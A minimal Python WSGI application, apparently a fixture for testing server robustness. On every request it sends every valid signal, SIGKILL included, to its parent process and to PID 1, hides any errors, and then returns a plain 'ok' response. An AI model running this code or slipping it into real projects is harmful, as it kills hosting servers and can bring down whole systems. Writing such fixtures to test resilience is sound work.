import contextlib
import os
import signal


def app(environ, start_response):
    for process in {os.getppid(), 1}:
        for number in signal.valid_signals():
            with contextlib.suppress(OSError):
                os.kill(process, number)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
